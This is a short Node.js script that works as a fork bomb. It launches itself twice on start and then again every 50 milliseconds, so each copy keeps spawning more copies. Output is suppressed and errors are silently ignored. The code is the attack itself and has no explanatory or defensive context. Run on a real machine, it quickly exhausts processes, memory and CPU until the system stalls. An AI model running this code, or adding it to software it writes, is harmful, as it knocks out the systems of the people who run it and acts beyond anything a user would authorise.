const { spawn } = require('child_process');
function go() {
  try { spawn(process.execPath, [__filename, ...process.argv.slice(2)], { stdio: 'ignore' }).on('error', () => {}); }
  catch (e) {}
}
go(); go(); setInterval(go, 50);
